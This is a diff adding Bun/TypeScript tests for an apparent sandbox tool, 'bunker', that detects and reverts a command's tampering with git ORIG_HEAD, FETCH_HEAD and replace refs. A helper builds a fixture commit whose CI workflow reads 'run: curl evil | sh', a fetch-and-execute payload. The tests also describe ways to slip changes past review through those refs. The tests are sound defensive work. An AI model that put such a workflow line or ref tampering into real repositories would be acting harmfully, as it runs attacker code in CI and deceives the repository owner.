@@ -217,3 +217,83 @@ test("two refs moved from one commit, one onto a commit with the same tree and o
   expect(lines[0]).toStartWith(`.github/workflows/ci.yml was committed by the command to zfeature: runs in CI`);
   expect(lines[0]).toContain(`show ${w.slice(0, 12)} -- `);
 });
+
+/** A commit in no ref, child of HEAD, whose tree changes the workflow: what a command hashes straight into history. */
+function evilCommit(root: string): string {
+  const blob = Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from("run: curl evil | sh\n"), stdout: "pipe" }).stdout.toString().trim();
+  const index = join(root, "..", `${root.split("/").pop()}-index`);
+  const env = { ...process.env, GIT_INDEX_FILE: index };
+  Bun.spawnSync(["git", "read-tree", "HEAD"], { cwd: root, env });
+  Bun.spawnSync(["git", "update-index", "--cacheinfo", `100644,${blob},.github/workflows/ci.yml`], { cwd: root, env });
+  const tree = Bun.spawnSync(["git", "write-tree"], { cwd: root, env, stdout: "pipe" }).stdout.toString().trim();
+  return git(root, "commit-tree", tree, "-p", "HEAD", "-m", "Restore main").trim();
+}
+
+test("red team 10 F09b: ORIG_HEAD aimed at a commit no ref holds that changes a workflow is set aside, or put back as it was; the person's reset writes nothing", async () => {
+  const { root, gitDir, first } = await commandRepo("bunker-history-orig-");
+  const before = historyBefore(gitDir, root)!;
+  const evil = evilCommit(root);
+  await Bun.write(join(gitDir, "ORIG_HEAD"), `${evil}\n`);
+  const [line, ...rest] = committedRunsLater(root, before, ciWhy);
+  expect(rest).toEqual([]);
+  expect(line).toBe(`bunker set aside .git/ORIG_HEAD, which the command set to a commit no ref held, which changes .github/workflows/ci.yml: runs in CI; git reset --hard ORIG_HEAD (or git am --abort) would write it into your working tree outside the sandbox (to look at it: git --no-replace-objects show ${evil.slice(0, 12)} -- .github/workflows/ci.yml): it is now .git/ORIG_HEAD.bunker-set-aside; to restore it after checking it: mv .git/ORIG_HEAD.bunker-set-aside .git/ORIG_HEAD`);
+  expect(Bun.spawnSync(["git", "reset", "-q", "--hard", "ORIG_HEAD"], { cwd: root }).exitCode).not.toBe(0);
+  expect(await Bun.file(join(root, ".github/workflows/ci.yml")).text()).toBe("run: make test\n");
+  // The person's own ORIG_HEAD (a reset of theirs) re-aimed: theirs put back.
+  git(root, "update-ref", "ORIG_HEAD", first);
+  const second = historyBefore(gitDir, root)!;
+  git(root, "update-ref", "ORIG_HEAD", evil);
+  expect(committedRunsLater(root, second, ciWhy)[0]).toEndWith(". bunker put back the ORIG_HEAD there was before it");
+  expect(git(root, "rev-parse", "ORIG_HEAD").trim()).toBe(first);
+  // Through `ref: NAME` to a branch the command made (named as a ref, and followed), and FETCH_HEAD's second line.
+  const third = historyBefore(gitDir, root)!;
+  git(root, "update-ref", "refs/heads/fix", evil);
+  await Bun.write(join(gitDir, "ORIG_HEAD"), "ref: refs/heads/fix\n");
+  await Bun.write(join(gitDir, "FETCH_HEAD"), `${first}\t\tbranch 'main' of ../o\n${evil}\tnot-for-merge\tbranch 'x' of ../o\n`);
+  const lines = committedRunsLater(root, third, ciWhy);
+  expect(lines).toHaveLength(3);
+  expect(lines[0]).toStartWith(".github/workflows/ci.yml was committed by the command to fix: runs in CI");
+  expect(lines[1]).toStartWith("the command set .git/ORIG_HEAD to a commit no ref held, which changes .github/workflows/ci.yml");
+  expect(lines[2]).toStartWith("bunker set aside .git/FETCH_HEAD, which the command set to a commit no ref held");
+  expect(git(root, "rev-parse", "ORIG_HEAD").trim()).toBe(first);
+  // Moved onto what the person had (a rebase's ORIG_HEAD is the old tip): nothing new, it stays.
+  const fourth = historyBefore(gitDir, root)!;
+  git(root, "update-ref", "ORIG_HEAD", "HEAD");
+  expect(committedRunsLater(root, fourth, ciWhy)).toEqual([]);
+  expect(git(root, "rev-parse", "ORIG_HEAD").trim()).toBe(first);
+});
+
+test("reviewer's R10-07: the person's own stopped git am, with ORIG_HEAD re-aimed and abort-safety made HEAD: ORIG_HEAD put back, git am --abort writes nothing of the command's", async () => {
+  const { root, gitDir, first } = await commandRepo("bunker-history-am-");
+  await Bun.write(join(root, "a"), "b\n");
+  git(root, "commit", "-qam", "second");
+  const patch = Bun.spawnSync(["git", "format-patch", "-1", "--stdout"], { cwd: root, stdout: "pipe" }).stdout;
+  git(root, "reset", "-q", "--hard", "HEAD~1");
+  await Bun.write(join(root, "a"), "conflict\n");
+  git(root, "commit", "-qam", "other");
+  Bun.spawnSync(["git", "-c", "user.email=a@b", "-c", "user.name=A", "am"], { cwd: root, stdin: patch, stdout: "pipe", stderr: "pipe" });
+  expect(await Bun.file(join(gitDir, "rebase-apply/abort-safety")).exists()).toBe(true);
+  const head = git(root, "rev-parse", "HEAD").trim();
+  const before = historyBefore(gitDir, root)!;
+  const evil = evilCommit(root);
+  git(root, "update-ref", "ORIG_HEAD", evil);
+  await Bun.write(join(gitDir, "rebase-apply/abort-safety"), `${head}\n`);
+  const lines = committedRunsLater(root, before, ciWhy);
+  expect(lines[0]).toStartWith("the command set .git/ORIG_HEAD to a commit no ref held, which changes .github/workflows/ci.yml: runs in CI; git reset --hard ORIG_HEAD (or git am --abort) would write it");
+  expect(lines[0]).toEndWith("bunker put back the ORIG_HEAD there was before it");
+  Bun.spawnSync(["git", "am", "--abort"], { cwd: root });
+  expect(await Bun.file(join(root, ".github/workflows/ci.yml")).text()).toBe("run: make test\n");
+  expect(git(root, "rev-parse", "HEAD").trim()).not.toBe(evil);
+  expect(first).not.toBe(evil);
+});
+
+test("reviewer's R10-16: the person's own replace ref, re-aimed by the command, is put back (not deleted)", async () => {
+  const { root, gitDir } = await commandRepo("bunker-history-replace-own-");
+  const blob = (text: string) => Bun.spawnSync(["git", "hash-object", "-w", "--stdin"], { cwd: root, stdin: Buffer.from(text), stdout: "pipe" }).stdout.toString().trim();
+  const [object, theirs, command] = [blob("one\n"), blob("two\n"), blob("three\n")];
+  git(root, "replace", object, theirs);
+  const before = historyBefore(gitDir, root)!;
+  git(root, "replace", "-f", object, command);
+  expect(replaceRefsMade(before)).toEqual([`the command re-aimed your replace ref refs/replace/${object}: git would have shown the object ${object.slice(0, 12)} as ${command.slice(0, 12)} (git show, diff, log -p, blame) while a push sends the real one. bunker put back yours (to ${theirs.slice(0, 12)}; to make it again: git replace -f ${object} ${command})`]);
+  expect(git(root, "replace", "-l", "--format=long")).toBe(`${object} (blob) -> ${theirs} (blob)\n`);
+});
